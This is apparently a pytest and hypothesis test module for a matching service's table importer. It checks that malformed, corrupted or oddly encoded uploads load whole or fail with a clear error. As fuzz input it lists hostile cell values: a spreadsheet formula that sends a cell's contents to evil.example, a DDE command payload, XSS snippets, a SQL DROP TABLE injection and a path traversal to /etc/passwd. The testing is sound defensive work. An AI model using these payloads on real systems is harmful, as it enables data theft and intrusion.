"""Guarantee 1, bad input: every file ends in a clean load or a clear error, never a crash or a
partial load.

`tests/test_ingest.py` already checks random CSV cells load or raise `InputError`. These
properties go further:

* an oracle: for random and hostile tables in every format (CSV, TSV, XLSX, JSONL, JSON) and
  text encoding (UTF-8, UTF-8 with BOM, UTF-16, GB18030) the loader returns exactly the
  expected records, or exactly the expected (row, field) problems, computed independently from
  the documented rules (control characters removed, cells stripped, blank rows dropped,
  ids required and unique, a title or a text, 20,000 characters per cell, yes/no values);
* corrupted bytes and wrong encodings end in an `InputError` that names the file;
* through the service, an upload is all or nothing: on any refusal the database (rows and
  revision) is unchanged, on success every row is stored and can be read back by its id.
"""

from __future__ import annotations

import collections
import csv
import datetime
import gzip
import io
import json
import re
import time
import unicodedata
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from reliability_kit import WORDS, write_figures

from matcher.errors import InputError, InputErrors, MatcherError
from matcher.io.ingest import (
    _CONFIDENTIAL,
    MAX_CELL_CHARS,
    parse_capabilities,
    parse_demands,
    parse_partners,
    read_table_bytes,
)

FIGURES: collections.Counter = collections.Counter()
CI_EXAMPLES, SOAK_EXAMPLES = 300, 5000

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=1+1", "+1", "-1", "@SUM(A1)", "\t=1",
            "=cmd|' /C calc'!A0", "\r=2"]
HOSTILE = FORMULAS + [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE demands; --", "../../etc/passwd",
    "a/b", "D1?x#y%", "齐齐哈尔 Москва Ελλάδα العربية 🚄", "\u202etxt.exe", "a\u200bb", "e\u0301", "\ufeffBOM",
    "\u00a0nbsp\u3000", "x\u2028y", "是", "否", "也许", "maybe", "007", "1e5", "NaN", "null", "true", "[]", "{}",
    '"', '""', "a,b", "a\tb", "x\r\ny", "x\ry", "\\", " ", "", "\x00", "\x1b[31m", "\x7f", "\x85",
]
HUGE = ["很" * MAX_CELL_CHARS, "x" * (MAX_CELL_CHARS + 1), " " * 30 + "y" * MAX_CELL_CHARS + " " * 30]
CONTROL = "".join(chr(c) for c in range(0, 32)) + "\x7f\x85\x9f\ufeff\u2028\u202e\u200b"
SCRIPTS = "齐齐哈尔需求涂层ЖжДдΩωαعربيةשלום한글カタカナé😀𠀀"

cell = st.one_of(
    st.text(max_size=24),
    st.text(alphabet=st.sampled_from(CONTROL + SCRIPTS + "ab =+-@,;\"'\t\n\r"), max_size=16),
    st.sampled_from(HOSTILE),
    st.sampled_from(HUGE),
)
id_cell = st.one_of(st.sampled_from(["D1", "D2", "D3", "d1", "D1 ", " D2", "", " ", "\x00", "\ufeff"]), cell)
conf_cell = st.one_of(st.sampled_from(sorted(_CONFIDENTIAL) + ["也许", "maybe", "2", " 是 ", "YES"]), cell)


def clean(value: str) -> str:
    """Control characters (Cc except tab/newline/CR, and the BOM) removed, CR -> LF, stripped."""
    out = "".join(ch for ch in value if ch in "\t\n\r" or (unicodedata.category(ch) != "Cc" and ch != "\ufeff"))
    return out.replace("\r\n", "\n").replace("\r", "\n").strip()


SAFE_ID = st.text(alphabet="ABCDEFGHJKLMNPQRSTUVWXYZ0123456789-_.需求成果单位", min_size=1, max_size=10)
VALID_TEXT = st.one_of(st.lists(st.sampled_from(WORDS), min_size=1, max_size=8).map(" ".join),
                       st.sampled_from([h for h in HOSTILE if clean(h)]),
                       st.text(min_size=1, max_size=30).filter(lambda t: bool(clean(t))))

HEADERS = [
    ["需求编号", "需求名称", "需求描述", "是否保密", "备注"],
    ["id", "title", "text", "confidential", '=HYPERLINK("x")'],
    ["ID", "Title", "Description", "Confidential", "<script>x</script>"],
    ["编号", "标题", "内容", "保密", "Примечание"],
]
FORMATS = ["csv", "tsv", "xlsx", "jsonl", "json"]
TEXT_ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "gb18030"]


@pytest.fixture(scope="module", autouse=True)
def _figures():
    """Write this module's figures when its last test has run."""
    FIGURES.clear()
    started = time.perf_counter()
    yield
    write_figures("bad_input", {**dict(sorted(FIGURES.items())), "crashes": 0, "records_lost": 0,
                                "seconds": round(time.perf_counter() - started, 1)})


# -- the documented rules, written out independently of matcher/io/ingest.py ---------------------
def xlsx_storable(value: str) -> str:
    """What an .xlsx cell can hold at all (XML 1.0 forbids most C0 controls)."""
    return "".join(ch for ch in value if ch in "\t\n\r" or not (ord(ch) < 32))


def expected(fmt: str, header: list[str], rows: list[list[str]], title_row: bool):
    """("ok", [ids]) or ("rows", {(row, field)}) or ("file", None) for a demand table."""
    id_col, title_col, text_col, conf_col, _ = header
    first = 2 + title_row if fmt in ("csv", "tsv", "xlsx") else 1
    kept = []
    for i, raw in enumerate(rows):
        cleaned = [clean(v) for v in raw]
        if fmt in ("csv", "tsv", "xlsx") and not any(cleaned):
            continue  # a blank row is dropped
        kept.append((first + i, cleaned))
    if not kept:
        return "file", None
    problems, seen = set(), {}
    for number, (ident, title, text, conf, extra) in kept:
        if not ident:
            problems.add((number, id_col))
        elif ident in seen:
            problems.add((number, id_col))
        seen.setdefault(ident, number)
        if not text:  # a description is required (issue 13.3: a title alone used to load)
            problems.add((number, text_col))
        if conf.casefold() not in _CONFIDENTIAL:
            problems.add((number, conf_col))
        for col, v in zip(header, (ident, title, text, conf, extra)):
            if len(v) > MAX_CELL_CHARS:
                problems.add((number, col))
    if problems:
        return "rows", problems
    return "ok", [c[0] for _, c in kept]


# -- writing the files --------------------------------------------------------------------------
FIXED_TIME = datetime.datetime(2024, 1, 1)


def with_fixed_zip_times(data: bytes) -> bytes:
    """openpyxl stamps the save time into docProps/core.xml and every zip entry."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename == "docProps/core.xml":
                content = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", content)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=FIXED_TIME.timetuple()[:6]), content,
                         compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def table_bytes(fmt: str, header: list[str], rows: list[list[str]], encoding: str, title_row: bool) -> bytes:
    if fmt in ("csv", "tsv"):
        buf = io.StringIO(newline="")
        writer = csv.writer(buf, delimiter="," if fmt == "csv" else "\t", lineterminator="\r\n")
        if title_row:
            writer.writerow(["齐齐哈尔市企业技术需求征集表"])
        writer.writerows([header, *rows])
        return buf.getvalue().encode(encoding)
    if fmt == "xlsx":
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = "需求"
        all_rows = ([["齐齐哈尔市企业技术需求征集表"]] if title_row else []) + [header, *rows]
        for r, values in enumerate(all_rows, start=1):
            for j, v in enumerate(values, start=1):
                c = ws.cell(row=r, column=j)
                c.value = v if v != "" else None
                if isinstance(v, str) and v.startswith("="):
                    c.data_type = "s"  # literal text, as Excel stores '=... typed by a person
        # hypothesis replays a case by redrawing it: the bytes must not depend on the clock
        out = io.BytesIO()
        wb.save(out)
        return with_fixed_zip_times(out.getvalue())
    records = [dict(zip(header, r)) for r in rows]
    if fmt == "jsonl":
        text = "".join(json.dumps(rec, ensure_ascii=False) + "\n" for rec in records)
    else:
        text = json.dumps(records, ensure_ascii=False, indent=1)
    return text.encode(encoding)


def check_error_is_clear(exc: InputError, source: str) -> None:
    """An InputError names the file; each row problem names its row; the message is readable."""
    assert isinstance(exc, InputError), type(exc)
    assert str(exc).strip()
    assert exc.file == source, (exc.file, source)
    if isinstance(exc, InputErrors):
        assert exc.errors
        for err in exc.errors:
            assert err.reason.strip()
            assert err.row is not None or "more problem(s)" in err.reason, err


@st.composite
def demand_tables(draw):
    fmt = draw(st.sampled_from(FORMATS))
    header = draw(st.sampled_from(HEADERS))
    n = draw(st.integers(0, 7))
    if draw(st.booleans()):  # a table that should load: legal but hostile-looking text
        valid_conf = st.sampled_from(["是", "否", "", "yes", "0", "保密"])
        rows = [[draw(SAFE_ID), draw(VALID_TEXT), draw(VALID_TEXT), draw(valid_conf),
                 draw(st.one_of(st.just(""), VALID_TEXT))] for _ in range(n)]
    else:
        rows = [[draw(id_cell), draw(cell), draw(cell), draw(conf_cell), draw(cell)] for _ in range(n)]
    encoding = draw(st.sampled_from(TEXT_ENCODINGS)) if fmt != "xlsx" else "xlsx"
    title_row = draw(st.booleans()) if fmt in ("csv", "tsv", "xlsx") else False
    if fmt == "xlsx":
        rows = [[xlsx_storable(v) for v in r] for r in rows]
    return fmt, header, rows, encoding, title_row


def _demand_oracle_case(fmt, header, rows, encoding, title_row) -> None:
    source = f"hostile.{fmt}"
    data = table_bytes(fmt, header, rows, encoding, title_row)
    FIGURES["inputs_tried"] += 1
    FIGURES[f"tables_{fmt}"] += 1
    want, detail = expected(fmt, header, rows, title_row)
    ambiguous = encoding == "gb18030" and _is_utf8(data)  # a GB18030 file that is also valid UTF-8
    try:
        got = parse_demands(read_table_bytes(data, source), source=source)
    except InputErrors as exc:
        check_error_is_clear(exc, source)
        FIGURES["tables_refused_with_row_errors"] += 1
        if ambiguous:
            return
        assert want == "rows", f"expected {want} {detail}, got row errors {exc}"
        got_problems = {(e.row, e.field) for e in exc.errors}
        assert got_problems == detail, f"{got_problems} != {detail}"
        FIGURES["tables_row_problems_named"] += len(detail)
        return
    except InputError as exc:
        check_error_is_clear(exc, source)
        FIGURES["tables_refused_with_file_errors"] += 1
        if ambiguous:
            return
        assert want == "file", f"expected {want} {detail}, got a file error: {exc}"
        return
    FIGURES["tables_loaded"] += 1
    FIGURES["tables_records_loaded"] += len(got)
    for d in got:
        for value in (d.id, d.title, d.text, *d.extra.values()):
            assert not any(unicodedata.category(ch) == "Cc" and ch not in "\t\n" for ch in value), repr(value)
            assert len(value) <= MAX_CELL_CHARS and value == value.strip()
    if ambiguous:
        return
    assert want == "ok", f"expected {want} {detail}, but it loaded {[d.id for d in got]}"
    assert [d.id for d in got] == detail  # every row, in order: nothing dropped, nothing invented
    for d, (_, title, text, _conf, _extra) in zip(got, [r for r in rows if fmt not in ("csv", "tsv", "xlsx")
                                                       or any(clean(v) for v in r)]):
        assert d.title == clean(title) and d.text == clean(text)


def _is_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
        return True
    except UnicodeDecodeError:
        return False


@settings(max_examples=CI_EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
@given(case=demand_tables())
def test_demand_tables_load_exactly_or_name_every_bad_row(case):
    _demand_oracle_case(*case)


@pytest.mark.soak
@settings(max_examples=SOAK_EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
@given(case=demand_tables())
def test_demand_tables_soak(case):
    _demand_oracle_case(*case)


# -- corrupted bytes, wrong encodings, the other two kinds --------------------------------------
@st.composite
def corrupted_files(draw):
    fmt = draw(st.sampled_from(FORMATS))
    kind = draw(st.sampled_from(["demands", "capabilities", "partners"]))
    header = {"demands": ["id", "title", "text"], "capabilities": ["单位名称", "成果名称", "成果简介"],
              "partners": ["单位编号", "单位名称", "类型"]}[kind]
    rows = [[draw(id_cell), draw(cell), draw(cell)] for _ in range(draw(st.integers(0, 5)))]
    if fmt == "xlsx":
        rows = [[xlsx_storable(v) for v in r] for r in rows]
    encoding = draw(st.sampled_from(TEXT_ENCODINGS + ["latin-1", "cp1251", "shift_jis"])) if fmt != "xlsx" else ""
    try:
        data = table_bytes(fmt, header, rows, encoding or "utf-8", False)
    except UnicodeEncodeError:
        data = table_bytes(fmt, header, rows, "utf-8", False)
    how = draw(st.sampled_from(["none", "insert", "truncate", "flip", "garbage"]))
    if how == "insert" and data:
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at:]
    elif how == "truncate" and data:
        data = data[: draw(st.integers(0, len(data)))]
    elif how == "flip" and data:
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + bytes([data[at] ^ draw(st.integers(1, 255))]) + data[at + 1:]
    elif how == "garbage":
        data = draw(st.binary(max_size=200))
    name = draw(st.sampled_from([f"x.{fmt}", f"X.{fmt.upper()}", "x.txt", f"x.{fmt}.gz", "x.xls", "x"]))
    return kind, name, data


PARSERS = {"demands": parse_demands, "capabilities": parse_capabilities, "partners": parse_partners}


@settings(max_examples=CI_EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
@given(case=corrupted_files())
def test_corrupted_files_and_wrong_encodings_never_crash(case):
    kind, name, data = case
    FIGURES["inputs_tried"] += 1
    FIGURES["corrupted_random"] += 1
    try:
        records = PARSERS[kind](read_table_bytes(data, name), source=name)
    except InputError as exc:
        check_error_is_clear(exc, name)
        FIGURES["corrupted_random_refused"] += 1
        return
    except MatcherError as exc:  # UnknownNameError and friends: still ours, still explained
        assert str(exc).strip()
        return
    FIGURES["corrupted_random_loaded"] += 1
    ids = [r.id for r in records]
    assert len(ids) == len(set(ids)) and all(ids)


@pytest.mark.parametrize("name", ["sweep.xlsx", "sweep.jsonl.gz", "sweep.csv.gz"])
def test_every_damaged_byte_of_a_workbook_or_gzip_is_an_input_error(name):
    """Deterministic sweep (hypothesis found the first ones): a byte flipped anywhere in an
    .xlsx or .gz file gives a clean load or an InputError, never zlib.error / EOFError / ..."""
    rows = [["id", "title", "text"], *[[f"S{i}", "低温涂层", "附着力 " * 10] for i in range(8)]]
    if name.endswith(".xlsx"):
        data, stride = table_bytes("xlsx", rows[0], rows[1:], "", False), 11
    else:
        inner = "jsonl" if ".jsonl" in name else "csv"
        data, stride = gzip.compress(table_bytes(inner, rows[0], rows[1:], "utf-8", False)), 1
    outcomes = collections.Counter()
    for at in range(0, len(data), stride):
        for mask in (0x01, 0x55, 0xFF):
            damaged = data[:at] + bytes([data[at] ^ mask]) + data[at + 1:]
            FIGURES["inputs_tried"] += 1
            FIGURES["corrupted_byte_flips"] += 1
            try:
                parse_demands(read_table_bytes(damaged, name), source=name)
                outcomes["loaded"] += 1
            except InputError as exc:
                check_error_is_clear(exc, name)
                outcomes["input_error"] += 1
    assert outcomes["input_error"] > 0


def test_giant_cells_and_files_are_refused_with_the_row():
    """Beyond the csv module's field limit, beyond the 20,000-character cell limit, a 5 MB JSON line."""
    cases = {
        "over_field_limit.csv": b"id,title,text\n1,t,ok\n2,t,\"" + b"x" * 200_000 + b"\"\n",
        "over_cell_limit.tsv": ("id\ttitle\ttext\n1\tt\t" + "长" * 20_001 + "\n").encode(),
        "giant_line.jsonl": (json.dumps({"id": "1", "title": "t", "text": "y" * 5_000_000}) + "\n").encode(),
    }
    for name, data in cases.items():
        started = time.perf_counter()
        with pytest.raises(InputError) as exc:
            parse_demands(read_table_bytes(data, name), source=name)
        FIGURES["inputs_tried"] += 1
        FIGURES["giant_inputs"] += 1
        assert time.perf_counter() - started < 10, name
        errors = exc.value.errors if isinstance(exc.value, InputErrors) else [exc.value]
        assert any(e.row == 3 or e.row == 2 or e.row == 1 for e in errors), (name, str(exc.value))
        assert "20,000" in str(exc.value) or "limit" in str(exc.value), str(exc.value)


def test_formula_cells_load_as_text_never_evaluated():
    """Formula-looking cells are data: loaded verbatim (exports neutralise them, see test_exports)."""
    rows = [[f"F{i}", f, f] for i, f in enumerate(FORMULAS)]
    for fmt in ("csv", "xlsx", "jsonl"):
        header = ["id", "title", "text"]
        data = table_bytes(fmt, header, rows, "utf-8", False)
        got = parse_demands(read_table_bytes(data, f"f.{fmt}"), source=f"f.{fmt}")
        FIGURES["inputs_tried"] += 1
        FIGURES["formula_files"] += 1
        assert [d.title for d in got] == [clean(f) for f in FORMULAS], fmt


# -- through the service: all or nothing ---------------------------------------------------------
@pytest.fixture(scope="module")
def service_world(tmp_path_factory):
    from fastapi.testclient import TestClient
    from service_testkit import World, make_settings, seed

    from matcher.retrieval.encoders import FakeEncoder
    from service.app import create_app

    client = TestClient(create_app(make_settings(tmp_path_factory.mktemp("bad-input")), encoder=FakeEncoder()),
                        raise_server_exceptions=False)
    with client:
        assert client.app.state.ctx.live.wait_ready(60)
        world = World(client, client.app.state.ctx.settings)
        world.tokens = seed(client)
        yield world


def _snapshot(world) -> tuple[int, dict]:
    from service.storage import store
    from service.storage.db import revision

    with world.ctx.db.connect() as conn:
        return revision(conn), store.counts(conn)


@st.composite
def uploads(draw):
    """Half the files are valid (ids, texts and yes/no values that load, hostile but legal text
    included), half carry hostile cells anywhere: every upload loads whole or not at all."""
    kind = draw(st.sampled_from(["demands", "capabilities", "partners"]))
    fmt = draw(st.sampled_from(["csv", "xlsx", "jsonl"]))
    valid = draw(st.booleans())
    hostile_ids = st.one_of(st.sampled_from(["D1", "D3", "P1", "P2", "C1", "a/b", "x" * 129, "U 3", "%2F", ".", ".."]),
                            id_cell)
    ids = SAFE_ID if valid else st.one_of(SAFE_ID, hostile_ids)
    text = VALID_TEXT if valid else st.one_of(VALID_TEXT, cell)
    header = {"demands": ["需求编号", "需求名称", "需求描述", "是否保密"],
              "capabilities": ["成果编号", "单位编号", "成果名称", "成果简介"],
              "partners": ["单位编号", "单位名称", "类型", "所在地区"]}[kind]
    rows = []
    for _ in range(draw(st.integers(1, 5))):
        if kind == "capabilities":
            partner = st.sampled_from(["P1", "P2"] if valid else ["P1", "P2", "P404", "", "a/b"])
            rows.append([draw(ids), draw(partner), draw(text), draw(text)])
        elif kind == "demands":
            conf = st.sampled_from(["是", "否", "", "yes", "0"]) if valid else conf_cell
            rows.append([draw(ids), draw(text), draw(text), draw(conf)])
        else:
            ptype = st.sampled_from(["高校", "研究所", "团队", "企业", "other", ""]) if valid else cell
            rows.append([draw(ids), draw(text), draw(ptype), draw(text)])
    if fmt == "xlsx":
        rows = [[xlsx_storable(v) for v in r] for r in rows]
    data = table_bytes(fmt, header, rows, "utf-8", False)
    mapping = None if valid else draw(st.one_of(st.none(), st.sampled_from(
        ["", "备注=extra", "{not json", '{"需求名称": "nonsense"}', "no equals", '{"a": 1}', "[1]"])))
    return kind, fmt, data, mapping


def _upload_case(world, kind: str, fmt: str, data: bytes, mapping: str | None) -> None:
    before = _snapshot(world)
    form = {"mapping": mapping} if mapping is not None else {}
    r = world.client.post(f"/api/imports/{kind}", files={"file": (f"upload.{fmt}", data, "application/octet-stream")},
                          data=form, headers=world.h("staff"))
    FIGURES["inputs_tried"] += 1
    FIGURES["requests_sent"] += 1
    FIGURES[f"upload_status_{r.status_code}"] += 1
    assert r.status_code in (200, 413, 422), (r.status_code, r.text[:500])
    after = _snapshot(world)
    if r.status_code != 200:
        FIGURES["uploads_refused"] += 1
        assert after == before, "a refused upload changed the database"
        err = r.json()["error"]
        assert err["message"]
        for d in err["details"]:
            if err["code"] == "invalid_input":
                assert {"file", "row", "field", "message"} <= d.keys() and d["message"]
        return
    FIGURES["uploads_loaded"] += 1
    body = r.json()
    assert body["created"] + body["updated"] == body["total"]
    assert after[1][kind] == before[1][kind] + body["created"]
    # every stored row can be read back through the API by its id
    parse = PARSERS[kind]
    records = parse(read_table_bytes(data, f"upload.{fmt}"), source="upload",
                    mapping=None if not mapping else _mapping_or_none(mapping))
    for rec in records:
        got = world.client.get(f"/api/{kind}/{_quote(rec.id)}", headers=world.h("staff"), follow_redirects=False)
        FIGURES["requests_sent"] += 1
        assert got.status_code == 200, (kind, rec.id, got.status_code)
        assert got.json()["id"] == rec.id


def _mapping_or_none(text: str):
    from service.importer import parse_mapping

    return parse_mapping(text)


def _quote(ident: str) -> str:
    from urllib.parse import quote

    return quote(ident, safe="")


@settings(max_examples=80, deadline=None, suppress_health_check=list(HealthCheck))
@given(case=uploads())
def test_uploads_are_all_or_nothing_and_readable(service_world, case):
    _upload_case(service_world, *case)


@pytest.mark.soak
@settings(max_examples=3000, deadline=None, suppress_health_check=list(HealthCheck))
@given(case=uploads())
def test_uploads_soak(service_world, case):
    _upload_case(service_world, *case)


def test_generated_workbooks_do_not_depend_on_the_clock():
    """Hypothesis replays a failing case by redrawing it; a workbook carrying the save time
    changed length between draws and CI failed with FlakyStrategyDefinition."""
    data = table_bytes("xlsx", ["id", "title", "text"], [["D1", "涂层", "低温"]], "", False)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {FIXED_TIME.timetuple()[:6]}
        core = archive.read("docProps/core.xml").decode()
    stamps = set(re.findall(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", core))
    assert stamps == {"2024-01-01T00:00:00Z"}
